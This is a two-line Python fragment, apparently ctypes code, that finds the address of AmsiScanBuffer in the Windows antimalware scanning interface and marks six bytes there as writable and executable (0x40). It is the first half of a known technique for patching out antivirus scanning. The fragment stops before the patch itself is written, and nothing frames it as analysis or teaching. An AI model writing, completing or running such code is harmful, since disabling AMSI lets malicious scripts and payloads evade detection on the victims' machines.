a = k.GetProcAddress(h, b"AmsiScanBuffer")
k.VirtualProtect(a, 6, 0x40, old)
